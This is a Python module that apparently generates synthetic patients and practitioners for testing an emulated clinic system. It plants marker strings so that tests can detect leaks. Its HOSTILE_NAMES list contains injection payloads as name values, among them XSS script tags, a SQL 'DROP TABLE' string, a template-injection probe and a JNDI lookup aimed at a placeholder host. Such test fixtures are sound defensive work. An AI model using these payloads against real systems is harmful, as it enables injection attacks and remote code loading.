"""Names, contact details and clinical text of the emulated patients, and practitioners' names, computed from the id.

They are not stored, so a large clinic needs no memory for them. Every e-mail address, phone number and
clinical text holds a marker that occurs nowhere else: a test that searches for the markers finds any leak.
Some names are hostile on purpose (markup, quotes, right-to-left script, emoji, very long).
"""

from collections.abc import Mapping
from dataclasses import dataclass

CLINICAL_MARKER = "planted-clinical-text"
EMAIL_MARKER = "@patients.example"
PHONE_MARKER = "0491 57"
PLANTED_MARKERS = (CLINICAL_MARKER, EMAIL_MARKER, PHONE_MARKER)
"""The markers; every planted e-mail address, phone number and clinical text holds a marker."""

HOSTILE_NAMES: tuple[tuple[str, str], ...] = (
    ("<script>alert('first')</script>", "<img src=x onerror=alert(1)>"),
    ('Sean "Shay"', "O'Flanagan-D'Arcy"),
    ("مريم", "الزهراني"),
    ("\u202eesrever", "\u05e9\u05e8\u05d4 \u05db\u05d4\u05df"),
    ("🦘 Skippy", "👩‍👩‍👧‍👦 Familie"),
    ("Wolfgang" * 30, "Oberschmidtbauer-" * 20 + "Ende"),
    ("Robert'); DROP TABLE patients;--", "Tables%_\\"),
    ("Zoë\u0301", "Müller-Łukasiewicz"),
    ("李小龙", "諸葛"),
    ("  Spaced  ", "Tab\tand\nnewline"),
    ("{{7*7}}", "${jndi:ldap://planted.invalid/x}"),
    ("Null", "None"),
)

_FIRST_NAMES = (  # noqa: SIM905  (a list would take a line for each)
    "Amelia Bilal Charlotte Dashiell Eleni Fergus Giulia Hamish Ingrid Jarrah Keiko Lachlan Matilda Nguyên Oluwaseun "
    "Priyanka Quentin Rosalind Søren Tamsin Umberto Violetta Winnifred Xiomara Yusuf Zbigniew Aroha Benedikt Chiara "
    "Dmitri Esperanza Florian Gwendolyn Hiroshi Imogen José Kirra Leonora Mehmet Niamh Ottilie Pasquale"
).split()
_LAST_NAMES = (  # noqa: SIM905
    "Abernethy Balakrishnan Castellanos Drummond Eriksson Featherstone Gallagher Hernández Ishikawa Jankowski "
    "Kirkpatrick Lindqvist Macdougall Nakamura Okonkwo Papadopoulos Quarrington Rosenberg Szymański Thistlewood "
    "Underwood Vasquez Whittaker Xanthopoulos Yamashiro Zimmermann Ashworth Birtwistle Carmichael Dellacqua "
    "Etchells Fitzgerald Goonetilleke Hawthorne Iyengar Jeyaratnam Kowalczyk Lafontaine Montgomery Ngarrindjeri "
    "Ostrowski Petrosyan Ramanathan Shaughnessy Tjapaltjarri Vandenberg Wijesinghe Yardley Zubrycki Ó-Dálaigh"
).split()
_COMPLAINTS = (
    "rotator cuff tear, left",
    "lumbar disc bulge at L4/L5",
    "plantar fasciitis",
    "post-operative ACL rehabilitation",
    "cervicogenic headache",
    "frozen shoulder after mastectomy",
    "pelvic floor rehabilitation",
    "Parkinson's gait training",
)
_PHONE_TYPES = ("Mobile", "Home", "Work", "Fax", "Other")


@dataclass(frozen=True, slots=True)
class Person:
    """The personal fields of a patient's row. ``None`` is sent as ``null`` or ``""``."""

    first_name: str | None
    last_name: str | None
    preferred_first_name: str | None
    email: str | None
    phones: tuple[tuple[str, str], ...]
    date_of_birth: str | None
    notes: str
    medicare: str
    occupation: str

    @property
    def full_name(self) -> str:
        return " ".join(name for name in (self.first_name, self.last_name) if name)


@dataclass(frozen=True, slots=True)
class Practitioner:
    """The texts of a practitioner's row. These are no secrets: clients may show them."""

    first_name: str | None
    last_name: str | None
    title: str | None
    designation: str | None
    label: str | None


_PRACTITIONERS = (
    ("Marguerite", "Delacroix", "Dr", "Physiotherapist"),
    ("Anders", "Holmqvist", None, "Physiotherapist"),
    ("Nerida", "Calloway", "Ms", "Remedial Massage Therapist"),
    ("Tobias", "Winterbourne", None, ""),
    ("Siobhán", "<b>O'Malley</b>", "Prof", 'Pilates "instructor" & coach'),
    ("Rafael", "Etxeberria", "Mr", "Exercise Physiologist"),
    ("Lesedi", "Mokoena", "Dr", "Hand Therapist"),
)


def practitioner(practitioner_id: int, given: Mapping[str, str | None]) -> Practitioner:
    """The texts of a practitioner's row by id; ``given`` replaces those that it has."""
    first, last, title, designation = _PRACTITIONERS[mix(practitioner_id, 6) % len(_PRACTITIONERS)]
    first_name, last_name = given.get("first_name", first), given.get("last_name", last)
    full = " ".join(name for name in (given.get("title", title), first_name, last_name) if name)
    return Practitioner(
        first_name,
        last_name,
        given.get("title", title),
        given.get("designation", designation),
        given.get("label", full),
    )


def mix(number: int, salt: int = 0) -> int:
    """A number of 64 bits that looks random but only depends on the arguments (the SplitMix64 generator)."""
    value = (number + (salt + 1) * 0x9E3779B97F4A7C15) % 2**64
    value = (value ^ (value >> 30)) * 0xBF58476D1CE4E5B9 % 2**64
    value = (value ^ (value >> 27)) * 0x94D049BB133111EB % 2**64
    return value ^ (value >> 31)


def sends_empty_text(row_id: int) -> bool:
    """Whether this row writes ``""`` where others write ``null``; about one in five does."""
    return mix(row_id, 7) % 5 == 0


def person(patient_id: int, given: Mapping[str, str | None]) -> Person:
    """The person behind a patient's id; ``given`` replaces names, ``email`` and ``phone`` where it has them."""
    dice = mix(patient_id)
    if dice % 40 == 0:
        first, last = HOSTILE_NAMES[dice // 40 % len(HOSTILE_NAMES)]
    else:
        first = _FIRST_NAMES[dice // 64 % len(_FIRST_NAMES)]
        last = _LAST_NAMES[dice // 8192 % len(_LAST_NAMES)]
    number = mix(patient_id, 1) % 10_000
    email = f"p{patient_id}{EMAIL_MARKER}" if dice % 11 else None
    phone = f"{PHONE_MARKER}{number // 1000} {number % 1000:03d}" if dice % 7 else None
    phone = given.get("phone", phone)
    phones = [(_PHONE_TYPES[dice // 3 % len(_PHONE_TYPES)], phone)] if phone else []
    if phones and dice % 5 == 0:
        phones.append(("Home", f"{PHONE_MARKER}9 {dice % 1000:03d}"))
    return Person(
        first_name=given.get("first_name", first),
        last_name=given.get("last_name", last),
        preferred_first_name=given.get("preferred_first_name", f"{first[:3]}ie" if dice % 9 == 0 else None),
        email=given.get("email", email),
        phones=tuple(phones),
        date_of_birth=f"{1935 + dice % 80}-{1 + dice // 80 % 12:02d}-{1 + dice // 960 % 28:02d}" if dice % 13 else None,
        notes=f"{CLINICAL_MARKER} {patient_id}: {_COMPLAINTS[dice // 16 % len(_COMPLAINTS)]}",
        medicare=f"{CLINICAL_MARKER} medicare {2000000000 + number}",
        occupation=f"{CLINICAL_MARKER} occupation",
    )


def appointment_note(appointment_id: int) -> str | None:
    """The practitioner's note on an appointment; about every third appointment has a note."""
    dice = mix(appointment_id, 3)
    return (
        f"{CLINICAL_MARKER} visit {appointment_id}: {_COMPLAINTS[dice % len(_COMPLAINTS)]}" if dice % 3 == 0 else None
    )
